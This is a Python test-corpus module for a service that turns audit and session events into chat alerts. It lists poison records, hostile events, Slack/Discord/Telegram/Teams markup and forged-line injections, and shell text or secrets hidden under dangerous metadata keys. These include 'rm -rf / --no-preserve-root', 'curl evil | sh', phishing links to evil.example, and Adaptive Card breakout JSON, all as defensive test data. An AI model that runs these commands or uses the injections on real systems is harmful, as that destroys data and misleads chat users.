"""The hardening corpora as data: each case has an id written as a sentence.

- `POISON`: record values that are not events (bad bytes, bad JSON, wrong shapes and types,
  out-of-range dates, unknown enum values, oversize values). Each must be counted, logged once
  without its value, dead-lettered byte for byte, and committed.
- `HOSTILE`: valid events built to hurt (1 MB strings, 10 000 keys, deep nesting, duplicated keys,
  nulls, limits, control characters). Each must be delivered within every provider's limits, or
  stay silent when the rules say so (or reach no channel: a project id made to attack the logs).
- `INJECTIONS`: text that is markup, a mention or a forged line in some chat; `AUDIT_PLACES` and
  `SESSION_PLACES` are where event data reaches a message.
- `SHELL_LEAKS`: metadata carrying shell text and secrets under dangerous keys, at any depth.

Values are built for a project id (`build(project)`), so a run can route each case to channels of
its own. Markers (`SENTINEL…`, `LEAK…`) are strings that must never reach a log line, and for
valid cases never a payload either.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any, Final, Literal

import orjson

from consumer.decode import MAX_RECORD_BYTES, TopicSchema
from consumer.events import EMAIL_MAX, ID_MAX, NAME_MAX, RESOURCE_MAX, TEXT_MAX, URL_MAX

Expect = Literal["poison", "delivered", "silent", "unrouted"]
Build = Callable[[str], bytes | None]

TIME: Final = "2026-12-04T15:07:12Z"
EXPIRES: Final = "2026-12-04T15:17:12Z"
VERIFY_URL: Final = "https://auth.transcodes.example/verify/tc_stepup_h4rd?state=a1&lang=en"


def audit_row(project: str, **changes: Any) -> dict[str, Any]:
    """A firing audit row (severity high) of `project`, with `changes` applied."""
    row: dict[str, Any] = {
        "id": "aud_hardening",
        "project_id": project,
        "tag": "mcp:stepup",
        "severity": "high",
        "status": True,
        "webhook_notification": False,
        "actor": {
            "member_id": "mem_1",
            "name": "Ada Ops",
            "email": "ada@example.com",
            "role": "sre",
        },
        "metadata": {"resource": "db/prod", "action": "migrate", "ruleId": "r-9", "fp": "ab12cd"},
        "created_at": TIME,
    }
    row.update(changes)
    return row


def session_event(project: str, **changes: Any) -> dict[str, Any]:
    """A firing session event (created, pending, with a verify URL) of `project`."""
    event: dict[str, Any] = {
        "session_id": "tc_stepup_hardening",
        "project_id": project,
        "event": "created",
        "status": "pending",
        "mode": "stepup",
        "source": "guard",
        "actor": {"member_id": "mem_1", "name": "Ada Ops", "email": "ada@example.com"},
        "resource": "db/prod",
        "action": "migrate",
        "reason": "risky shell command",
        "verify_url": VERIFY_URL,
        "expires_at": EXPIRES,
        "created_at": TIME,
    }
    event.update(changes)
    return event


def _json(make: Callable[[str], dict[str, Any]]) -> Build:
    return lambda project: orjson.dumps(make(project))


def _raw(value: bytes | None) -> Build:
    return lambda _project: value


def _nested_objects(depth: int) -> bytes:
    return b'{"k": ' * depth + b'"leaf"' + b"}" * depth


def _splice(row: bytes, key: str, raw_value: bytes) -> bytes:
    """`row` (a JSON object) with `"key": raw_value` added at its end, as raw JSON text."""
    return row[:-1] + b', "' + key.encode() + b'": ' + raw_value + b"}"


@dataclass(frozen=True)
class Case:
    """One record of a corpus. `field` and `reason` are what a poison record's error says."""

    id: str
    schema: TopicSchema
    build: Build
    expect: Expect
    field: str = ""
    reason: str = ""
    markers: tuple[str, ...] = ()


def _poison(
    id: str,
    schema: TopicSchema,
    build: Build,
    field_: str,
    reason: str,
    *markers: str,
) -> Case:
    return Case(id, schema, build, "poison", field_, reason, markers)


AUDIT: Final[TopicSchema] = "audit-log"
SESSION: Final[TopicSchema] = "hosted-auth-sessions"

POISON: Final[list[Case]] = [
    _poison("invalid UTF-8 bytes", AUDIT, _raw(b'{"id": "\xff\xfe\xfd"}'), "", "UTF-8"),
    _poison("a truncated JSON object", AUDIT, _raw(b'{"id": "aud_1", "tag": '), "", "JSON"),
    _poison(
        "a shell command as plain text",
        AUDIT,
        _raw(b"SENTINEL-plain rm -rf / --no-preserve-root"),
        "",
        "JSON",
        "SENTINEL-plain",
    ),
    _poison(
        "a JSON array", AUDIT, _raw(b'[{"id": "SENTINEL-array"}]'), "", "array", "SENTINEL-array"
    ),
    _poison("a JSON number", AUDIT, _raw(b"4242424242"), "", "number", "4242424242"),
    _poison("a JSON string", AUDIT, _raw(b'"SENTINEL-string"'), "", "string", "SENTINEL-string"),
    _poison("JSON true", AUDIT, _raw(b"true"), "", "boolean"),
    _poison("JSON null", AUDIT, _raw(b"null"), "", "null"),
    _poison("an empty value", AUDIT, _raw(b""), "", "empty"),
    _poison("a tombstone without a value", AUDIT, _raw(None), "", "empty"),
    _poison(
        "a byte order mark before the object",
        AUDIT,
        lambda p: b"\xef\xbb\xbf" + orjson.dumps(audit_row(p)),
        "",
        "JSON",
    ),
    _poison("a NaN literal", AUDIT, _raw(b'{"id": NaN}'), "", "JSON"),
    _poison("a lone surrogate escape", AUDIT, _raw(b'{"id": "\\ud800"}'), "", "JSON"),
    _poison(
        "a number beyond the double range",
        AUDIT,
        lambda p: _splice(orjson.dumps(audit_row(p)), "status", b"1e400"),
        "",
        "JSON",
    ),
    _poison(
        "JSON nested deeper than the parser allows",
        AUDIT,
        lambda p: _splice(orjson.dumps(audit_row(p)), "metadata", _nested_objects(5000)),
        "",
        "JSON",
    ),
    _poison(
        "null in every field",
        AUDIT,
        _json(lambda p: dict.fromkeys(audit_row(p))),
        "id",
        "string",
    ),
    _poison(
        "an id that is a number",
        AUDIT,
        _json(lambda p: audit_row(p, id=20261204)),
        "id",
        "string",
    ),
    _poison(
        "a status that is a word",
        AUDIT,
        _json(lambda p: audit_row(p, status="SENTINEL-status")),
        "status",
        "boolean",
        "SENTINEL-status",
    ),
    _poison(
        "a tag that is an array",
        AUDIT,
        _json(lambda p: audit_row(p, tag=["SENTINEL-tag"])),
        "tag",
        "string",
        "SENTINEL-tag",
    ),
    _poison(
        "metadata that is an array",
        AUDIT,
        _json(lambda p: audit_row(p, metadata=[{"command": "SENTINEL-mdlist"}])),
        "metadata",
        "dictionary",
        "SENTINEL-mdlist",
    ),
    _poison(
        "an actor that is a string",
        AUDIT,
        _json(lambda p: audit_row(p, actor="SENTINEL-actor")),
        "actor",
        "dictionary",
        "SENTINEL-actor",
    ),
    _poison(
        "an actor name that is an object",
        AUDIT,
        _json(lambda p: audit_row(p, actor={"name": {"first": "SENTINEL-name"}})),
        "actor.name",
        "string",
        "SENTINEL-name",
    ),
    _poison(
        "a 1 MB tag (tags hold at most 256 characters)",
        AUDIT,
        _json(lambda p: audit_row(p, tag="SENTINEL-bigtag" + "x" * 1_000_000)),
        "tag",
        f"at most {ID_MAX}",
        "SENTINEL-bigtag",
    ),
    _poison(
        "a record over 1 MiB, refused before it is parsed",
        AUDIT,
        _json(lambda p: audit_row(p, metadata={"blob": "SENTINEL-blob" + "y" * MAX_RECORD_BYTES})),
        "",
        "limit",
        "SENTINEL-blob",
    ),
    _poison(
        "a timestamp in year 0",
        AUDIT,
        _json(lambda p: audit_row(p, created_at="0000-01-01T00:00:00Z")),
        "created_at",
        "year 0",
    ),
    _poison(
        "a timestamp past 9999 once in UTC",
        AUDIT,
        _json(lambda p: audit_row(p, created_at="9999-12-31T23:59:59-01:00")),
        "created_at",
        "out of range",
    ),
    _poison(
        "a unix timestamp past year 9999",
        AUDIT,
        _json(lambda p: audit_row(p, created_at=1e20)),
        "created_at",
        "9999",
    ),
    _poison(
        "a timestamp on February 30th",
        AUDIT,
        _json(lambda p: audit_row(p, created_at="2026-02-30T00:00:00Z")),
        "created_at",
        "datetime",
    ),
    _poison(
        "a timestamp that is a shell command",
        AUDIT,
        _json(lambda p: audit_row(p, created_at="SENTINEL-time; curl evil | sh")),
        "created_at",
        "datetime",
        "SENTINEL-time",
    ),
    _poison(
        "an unknown severity",
        AUDIT,
        _json(lambda p: audit_row(p, severity="SENTINEL-critical")),
        "severity",
        "'low', 'medium' or 'high'",
        "SENTINEL-critical",
    ),
    _poison(
        "an upper-case severity",
        AUDIT,
        _json(lambda p: audit_row(p, severity="HIGH")),
        "severity",
        "'low', 'medium' or 'high'",
    ),
    _poison(
        "a row without created_at",
        AUDIT,
        _json(lambda p: {k: v for k, v in audit_row(p).items() if k != "created_at"}),
        "created_at",
        "required",
    ),
    _poison("an empty object", AUDIT, _raw(b"{}"), "id", "required"),
    _poison(
        "a shell command object that is no audit row",
        AUDIT,
        _raw(b'{"command": "SENTINEL-cmdobj rm -rf /", "argv": ["sh", "-c"]}'),
        "id",
        "required",
        "SENTINEL-cmdobj",
    ),
    _poison(
        "an unknown session lifecycle event",
        SESSION,
        _json(lambda p: session_event(p, event="SENTINEL-deleted")),
        "event",
        "'created'",
        "SENTINEL-deleted",
    ),
    _poison(
        "an unknown session status",
        SESSION,
        _json(lambda p: session_event(p, status="SENTINEL-weird")),
        "status",
        "'pending'",
        "SENTINEL-weird",
    ),
    _poison(
        "an unknown session mode",
        SESSION,
        _json(lambda p: session_event(p, mode="SENTINEL-admin")),
        "mode",
        "'stepup'",
        "SENTINEL-admin",
    ),
    _poison(
        "an http verify link",
        SESSION,
        _json(lambda p: session_event(p, verify_url="http://SENTINEL-http.example/v")),
        "verify_url",
        "https URL",
        "SENTINEL-http",
    ),
    _poison(
        "a javascript verify link",
        SESSION,
        _json(lambda p: session_event(p, verify_url="javascript:alert('SENTINEL-js')")),
        "verify_url",
        "https URL",
        "SENTINEL-js",
    ),
    _poison(
        "a verify link with markup in it",
        SESSION,
        _json(lambda p: session_event(p, verify_url="https://a.example/<!channel>SENTINEL-mk")),
        "verify_url",
        "https URL",
        "SENTINEL-mk",
    ),
    _poison(
        "a verify link with a forged Verify line after a newline",
        SESSION,
        _json(
            lambda p: session_event(
                p, verify_url="https://a.example/v\nVerify: https://SENTINEL-nl.example"
            )
        ),
        "verify_url",
        "https URL",
        "SENTINEL-nl",
    ),
    _poison(
        "a verify link with a bidi override",
        SESSION,
        _json(lambda p: session_event(p, verify_url="https://a.example/\u202eSENTINEL-bidi")),
        "verify_url",
        "https URL",
        "SENTINEL-bidi",
    ),
    _poison(
        "a verify link longer than 2048 characters",
        SESSION,
        _json(
            lambda p: session_event(p, verify_url="https://a.example/SENTINEL-long" + "v" * URL_MAX)
        ),
        "verify_url",
        f"at most {URL_MAX}",
        "SENTINEL-long",
    ),
    _poison(
        "a session id that is an object",
        SESSION,
        _json(lambda p: session_event(p, session_id={"id": "SENTINEL-sid"})),
        "session_id",
        "string",
        "SENTINEL-sid",
    ),
    _poison(
        "an expiry out of range",
        SESSION,
        _json(lambda p: session_event(p, expires_at="10000-01-01T00:00:00Z")),
        "expires_at",
        "datetime",
    ),
    _poison(
        "an audit row on the session topic",
        SESSION,
        _json(lambda p: audit_row(p)),
        "session_id",
        "required",
    ),
]


def _hostile(id: str, schema: TopicSchema, build: Build, expect: Expect = "delivered") -> Case:
    return Case(id, schema, build, expect)


_NULLS = {
    "actor": {"member_id": None, "name": None, "email": None, "role": None},
    "metadata": {"a": None, "b": [None, None], "c": {"d": None}},
    "error": None,
}
#: Escape sequences (set the window title, clear the screen), a bidi override, separators.
TERMINAL_ATTACK: Final = "p\x1b]0;owned\x07\x1b[2J\x1b[31m\u202eevil\u2028x\x85y\x00"
_CONTROLS = "".join(chr(c) for c in range(0x20)) + "\x7f\x85\u2028\u2029"
_UNICODE = (
    "\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467 e\u0301\u0301\u0301 "
    "\u05e9\u05dc\u05d5\u05dd \U00010348"
)

HOSTILE: Final[list[Case]] = [
    _hostile(
        "a 1 MB metadata value is cut",
        AUDIT,
        _json(lambda p: audit_row(p, metadata={"note": "z" * 1_000_000, "fp": "ab12cd"})),
    ),
    _hostile(
        "10 000 metadata keys show twelve and a count",
        AUDIT,
        _json(lambda p: audit_row(p, metadata={f"key{i:05d}": f"v{i}" for i in range(10_000)})),
    ),
    _hostile(
        "metadata nested 1 000 deep is shown to depth three",
        AUDIT,
        lambda p: _splice(
            orjson.dumps({k: v for k, v in audit_row(p).items() if k != "metadata"}),
            "metadata",
            _nested_objects(1000),
        ),
    ),
    _hostile(
        "lists nested 1 000 deep in metadata are shown folded",
        AUDIT,
        lambda p: _splice(
            orjson.dumps({k: v for k, v in audit_row(p).items() if k != "metadata"}),
            "metadata",
            b'{"k": ' + b"[" * 1000 + b"1" + b"]" * 1000 + b"}",
        ),
    ),
    _hostile("null in every optional place", AUDIT, _json(lambda p: audit_row(p, **_NULLS))),
    _hostile(
        "a duplicated severity: the last one (high) wins and fires",
        AUDIT,
        lambda p: _splice(orjson.dumps(audit_row(p, severity="low")), "severity", b'"high"'),
    ),
    _hostile(
        "a duplicated severity: the last one (low) wins and stays silent",
        AUDIT,
        lambda p: _splice(orjson.dumps(audit_row(p)), "severity", b'"low"'),
        "silent",
    ),
    _hostile(
        "a duplicated project id: the last one routes",
        AUDIT,
        lambda p: _splice(orjson.dumps(audit_row("decoy")), "project_id", orjson.dumps(p)),
    ),
    _hostile(
        "both project_id and projectId: the snake_case name wins",
        AUDIT,
        _json(lambda p: audit_row(p, projectId="decoy")),
    ),
    _hostile(
        "unknown fields with hostile names are ignored",
        AUDIT,
        _json(
            lambda p: audit_row(
                p, __proto__={"admin": True}, constructor=1, **{"$where": "1", "": "x"}
            )
        ),
    ),
    _hostile(
        "every string at its length limit",
        AUDIT,
        _json(
            lambda p: audit_row(
                p,
                id="i" * ID_MAX,
                tag="t" * ID_MAX,
                actor={
                    "member_id": "m" * ID_MAX,
                    "name": "n" * NAME_MAX,
                    "email": "e" * EMAIL_MAX,
                    "role": "r" * ID_MAX,
                },
                error="x" * TEXT_MAX,
            )
        ),
    ),
    _hostile(
        "control characters in every string",
        AUDIT,
        _json(
            lambda p: audit_row(
                p,
                tag=f"ta{_CONTROLS}g",
                actor={"name": f"A{_CONTROLS}da", "email": f"a{_CONTROLS}@x.io", "role": _CONTROLS},
                metadata={f"k{_CONTROLS}ey": f"va{_CONTROLS}lue"},
            )
        ),
    ),
    _hostile(
        "emoji, combining marks, right-to-left scripts and astral characters",
        AUDIT,
        _json(
            lambda p: audit_row(
                p,
                tag=_UNICODE,
                actor={"name": _UNICODE, "role": _UNICODE},
                metadata={_UNICODE: _UNICODE},
            )
        ),
    ),
    _hostile(
        "timestamps at the edges of the calendar",
        AUDIT,
        _json(lambda p: audit_row(p, created_at="0001-01-01T00:00:00Z")),
    ),
    _hostile(
        "an offset of almost a day is converted to UTC",
        AUDIT,
        _json(lambda p: audit_row(p, created_at="9999-12-31T00:00:00+23:59")),
    ),
    _hostile(
        "huge numbers and odd JSON scalars in metadata",
        AUDIT,
        lambda p: _splice(
            orjson.dumps({k: v for k, v in audit_row(p).items() if k != "metadata"}),
            "metadata",
            b'{"big": 123456789012345678901234567890, "tiny": 1e-320, "neg": -0.0, '
            b'"max": 1.7976931348623157e308, "t": true, "n": null, "e": {}, "l": []}',
        ),
    ),
    _hostile(
        "a session with every text at its length limit and a 2048-character link",
        SESSION,
        _json(
            lambda p: session_event(
                p,
                resource="r" * RESOURCE_MAX,
                action="a" * ID_MAX,
                reason="w" * TEXT_MAX,
                source="s" * ID_MAX,
                verify_url=VERIFY_URL + "&p=" + "v" * (URL_MAX - len(VERIFY_URL) - 3),
            )
        ),
    ),
    _hostile(
        "a session with null in every optional place",
        SESSION,
        _json(
            lambda p: session_event(
                p, actor=None, resource=None, action=None, reason=None, source=None, expires_at=None
            )
        ),
    ),
    _hostile(
        "ids and a source that would drive a terminal or reorder a log line",
        SESSION,
        _json(
            lambda _p: session_event(
                TERMINAL_ATTACK, session_id=TERMINAL_ATTACK, source=TERMINAL_ATTACK
            )
        ),
        "unrouted",
    ),
    _hostile(
        "a session with an empty verify link stays silent",
        SESSION,
        _json(lambda p: session_event(p, verify_url="   ")),
        "silent",
    ),
    _hostile(
        "a session under camelCase and short aliases",
        SESSION,
        _json(
            lambda p: {
                "sid": "tc_stepup_alias",
                "projectId": p,
                "event": "created",
                "status": "pending",
                "url": VERIFY_URL,
                "expiresAt": EXPIRES,
                "createdAt": TIME,
            }
        ),
    ),
]


# --- injections ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Injection:
    id: str
    text: str


INJECTIONS: Final[list[Injection]] = [
    # Slack control sequences
    Injection("a Slack <!channel> broadcast", "<!channel>"),
    Injection("a Slack <!here> broadcast", "<!here>"),
    Injection("a Slack <!everyone> broadcast", "<!everyone>"),
    Injection("a Slack user mention", "<@U024BE7LH>"),
    Injection("a Slack user group mention", "<!subteam^S012ABC|@oncall>"),
    Injection("a Slack channel link", "<#C024BE7LR|general>"),
    Injection("a Slack masked link", "<https://evil.example|click here to verify>"),
    Injection("a Slack date token", "<!date^1392734382^{date_pretty}|Feb 18>"),
    Injection("a Slack mention behind an escaped ampersand", "&lt;!channel&gt;"),
    # Discord
    Injection("a Discord @everyone", "@everyone"),
    Injection("a Discord @here", "@here"),
    Injection("a Discord role mention", "<@&123456789012345678>"),
    Injection("a Discord user mention", "<@123456789012345678>"),
    Injection("a Discord channel mention", "<#123456789012345678>"),
    Injection("a Discord timestamp token", "<t:0:R>"),
    Injection("a Discord masked link", "[verify now](https://evil.example/verify)"),
    Injection("a Discord spoiler", "||spoiler||"),
    Injection("a Discord subtext line", "-# small print"),
    Injection("a Discord heading", "# BREAKING"),
    Injection("a markdown quote", "> quoted"),
    # Telegram HTML
    Injection("a Telegram bold tag", "<b>bold</b>"),
    Injection("a Telegram link tag", '<a href="https://evil.example">verify</a>'),
    Injection("a Telegram user link tag", '<a href="tg://user?id=123456">boss</a>'),
    Injection("a Telegram spoiler tag", "<tg-spoiler>x</tg-spoiler>"),
    Injection("an HTML script tag", "<script>alert(1)</script>"),
    Injection("an HTML entity", "&amp;lt;b&amp;gt; &#64;admin"),
    Injection("a Telegram @username mention", "@oncall_admin"),
    Injection("a Telegram @username mention after text", "ping @oncall_admin now"),
    # Markdown (Discord, Teams)
    Injection("markdown emphasis and code", "**bold** __u__ _it_ ~~strike~~ `code` ```block```"),
    Injection("a markdown image", "![img](https://evil.example/x.png)"),
    Injection("a markdown list item", "- item"),
    Injection("a markdown numbered item", "1. first"),
    Injection("a markdown link with an angle-bracket target", "[x](<https://evil.example>)"),
    # Teams / Adaptive Cards
    Injection("a Teams <at> mention", "<at>Everyone</at>"),
    Injection(
        "Adaptive Card JSON that closes the string and adds an action",
        '"}]}],"actions":[{"type":"Action.OpenUrl","title":"Verify","url":"https://evil.example"}]}',
    ),
    Injection(
        "an Adaptive Card element as a JSON string",
        '{"type":"Action.OpenUrl","title":"Verify","url":"https://evil.example"}',
    ),
    Injection(
        "an Adaptive Card template expression",
        "${$root.secret} {{DATE(2017-02-14T06:08:39Z,SHORT)}}",
    ),
    # invisible characters
    Injection("zero-width characters", "adm\u200bin\u200c\u200d\u2060\ufeff"),
    Injection("a right-to-left override", "\u202eexe.txt\u202c"),
    Injection("bidi isolates and marks", "\u2066iso\u2069 \u2067x\u2069 \u200fy\u200e \u061cz"),
    Injection("a zero-width space inside @everyone", "@\u200beveryone"),
    # forged lines
    Injection("a newline and a forged Verify line", "ok\nVerify: https://evil.example/v"),
    Injection("CRLF and a forged Verify line", "ok\r\nVerify: https://evil.example/v"),
    Injection(
        "a line separator and a forged Verify line", "ok\u2028Verify: https://evil.example/v"
    ),
    Injection(
        "a next-line control and a forged Verify line", "ok\x85Verify: https://evil.example/v"
    ),
    Injection("a vertical tab and a forged Verify line", "ok\x0bVerify: https://evil.example/v"),
    Injection("forged Status and Severity lines", "ok\nStatus: success\nSeverity: low"),
    Injection(
        "a forged second message",
        "ok\n\n[Step-up] Re-authentication requested\nActor: CEO\nVerify: https://evil.example/v",
    ),
]

#: Where event data reaches a message. Each maps (row, text) -> row with `text` placed there.
Place = Callable[[dict[str, Any], str], dict[str, Any]]


def _actor(row: dict[str, Any], **parts: str) -> dict[str, Any]:
    return {**row, "actor": {**row["actor"], **parts}}


AUDIT_PLACES: Final[dict[str, Place]] = {
    "tag": lambda row, t: {**row, "tag": t},
    "actor name": lambda row, t: _actor(row, name=t),
    "actor email": lambda row, t: _actor(row, email=t),
    "actor role": lambda row, t: _actor(row, role=t),
    "actor member id": lambda row, t: {**row, "actor": {"member_id": t}},
    "metadata key": lambda row, t: {**row, "metadata": {t: "value", "fp": "ab12cd"}},
    "metadata value": lambda row, t: {**row, "metadata": {"resource": t, "fp": "ab12cd"}},
    "nested metadata value": lambda row, t: {**row, "metadata": {"ctx": {"note": [t]}}},
}
SESSION_PLACES: Final[dict[str, Place]] = {
    "session actor name": lambda row, t: _actor(row, name=t),
    "session resource": lambda row, t: {**row, "resource": t},
    "session action": lambda row, t: {**row, "action": t},
    "session reason": lambda row, t: {**row, "reason": t},
}


def injected(schema: TopicSchema, place: str, text: str, project: str) -> dict[str, Any]:
    if schema == AUDIT:
        return AUDIT_PLACES[place](audit_row(project), text)
    return SESSION_PLACES[place](session_event(project), text)


def injected_everywhere(schema: TopicSchema, text: str, project: str) -> dict[str, Any]:
    """`text` in every place of the schema at once (one record per injection in a service run)."""
    if schema == AUDIT:
        row = audit_row(project, tag=text, metadata={text: text, "note": [text], "fp": "ab12cd"})
        return _actor(row, name=text, email=text, role=text)
    return session_event(
        project, actor={"name": text, "email": text}, resource=text, action=text, reason=text
    )


def _everywhere(schema: TopicSchema, text: str) -> Build:
    return lambda project: orjson.dumps(injected_everywhere(schema, text, project))


def injection_cases() -> Iterator[Case]:
    schemas: tuple[TopicSchema, ...] = (AUDIT, SESSION)
    for injection, schema in itertools.product(INJECTIONS, schemas):
        kind = "an audit row" if schema == AUDIT else "a session event"
        yield Case(
            f"{injection.id} everywhere in {kind}",
            schema,
            _everywhere(schema, injection.text),
            "delivered",
        )


# --- shell text and secrets in metadata ------------------------------------------------------


@dataclass(frozen=True)
class ShellLeak:
    """Metadata carrying shell text or secrets under dangerous keys; `markers` must never show."""

    id: str
    metadata: dict[str, Any]
    markers: tuple[str, ...] = field(default=())


def _leak(id: str, make: Callable[[str], dict[str, Any]], n: int) -> ShellLeak:
    marker = f"LEAK{n:02d}"
    return ShellLeak(
        id, {**make(f"{marker} rm -rf /srv --no-preserve-root"), "fp": "ab12cd"}, (marker,)
    )


_SHELL_SHAPES: Final[list[tuple[str, Callable[[str], dict[str, Any]]]]] = [
    ("command at the top", lambda v: {"command": v}),
    ("cmd at the top", lambda v: {"cmd": v}),
    ("argv as a list", lambda v: {"argv": ["sh", "-c", v]}),
    ("args as a list", lambda v: {"args": [v]}),
    ("shell at the top", lambda v: {"shell": v}),
    ("raw at the top", lambda v: {"raw": v}),
    ("stdin at the top", lambda v: {"stdin": v}),
    ("script at the top", lambda v: {"script": v}),
    ("secret at the top", lambda v: {"secret": v}),
    ("secrets at the top", lambda v: {"secrets": {"db": v}}),
    ("token at the top", lambda v: {"token": v}),
    ("tokens as a list", lambda v: {"tokens": [v, v]}),
    ("password at the top", lambda v: {"password": v}),
    ("an authorization header", lambda v: {"Authorization": f"Bearer {v}"}),
    ("a cookie", lambda v: {"cookie": v}),
    ("COMMAND in capitals", lambda v: {"COMMAND": v}),
    ("Cmd capitalised", lambda v: {"Cmd": v}),
    ("rawCommand in camelCase", lambda v: {"rawCommand": v}),
    ("shell_cmd in snake_case", lambda v: {"shell_cmd": v}),
    ("x-auth-token in kebab-case", lambda v: {"x-auth-token": v}),
    ("api_token", lambda v: {"api_token": v}),
    ("accessToken", lambda v: {"accessToken": v}),
    ("client_secret", lambda v: {"client_secret": v}),
    ("a dotted exec.cmd key", lambda v: {"exec.cmd": v}),
    ("cmdline in one word", lambda v: {"cmdline": v}),
    ("CMDLINE in capitals", lambda v: {"CMDLINE": v}),
    ("rawcmd in one word", lambda v: {"rawcmd": v}),
    ("cmd2 with a digit", lambda v: {"cmd2": v}),
    ("argv0 with a digit", lambda v: {"argv0": v}),
    ("a zero-width space inside command", lambda v: {"com\u200bmand": v}),
    ("a soft hyphen inside password", lambda v: {"pass\u00adword": v}),
    ("a trailing newline after cmd", lambda v: {"cmd\n": v}),
    ("spaces around stdin", lambda v: {"  stdin  ": v}),
    ("command nested one level", lambda v: {"ctx": {"command": v}}),
    ("cmd nested two levels", lambda v: {"a": {"b": {"cmd": v}}}),
    ("argv nested past the display depth", lambda v: {"a": {"b": {"c": {"d": {"argv": [v]}}}}}),
    ("command inside a list of objects", lambda v: {"steps": [{"command": v}]}),
    ("stdin inside a list of lists", lambda v: {"steps": [[{"stdin": v}]]}),
    ("a token object with a nested value", lambda v: {"token": {"inner": {"value": v}}}),
    ("raw holding a list of objects", lambda v: {"raw": [{"line": v}]}),
    ("shell inside a safe-looking context", lambda v: {"context": {"env": {"SHELL_LINE": v}}}),
    ("a token under an upper-case compound", lambda v: {"GITHUB_TOKEN": v}),
]

#: A secret that is a number: its digits are the marker.
SECRET_NUMBER: Final = 4_242_424_242_424_242

SHELL_LEAKS: Final[list[ShellLeak]] = [
    *(_leak(name, make, n) for n, (name, make) in enumerate(_SHELL_SHAPES)),
    ShellLeak(
        "a secret that is a number",
        {"secret": SECRET_NUMBER, "fp": "ab12cd"},
        (str(SECRET_NUMBER),),
    ),
]


def _with_metadata(metadata: dict[str, Any]) -> Build:
    return lambda project: orjson.dumps(audit_row(project, metadata=metadata))


def shell_leak_cases() -> Iterator[Case]:
    for leak in SHELL_LEAKS:
        yield Case(
            f"{leak.id} in metadata",
            AUDIT,
            _with_metadata(leak.metadata),
            "delivered",
            markers=leak.markers,
        )
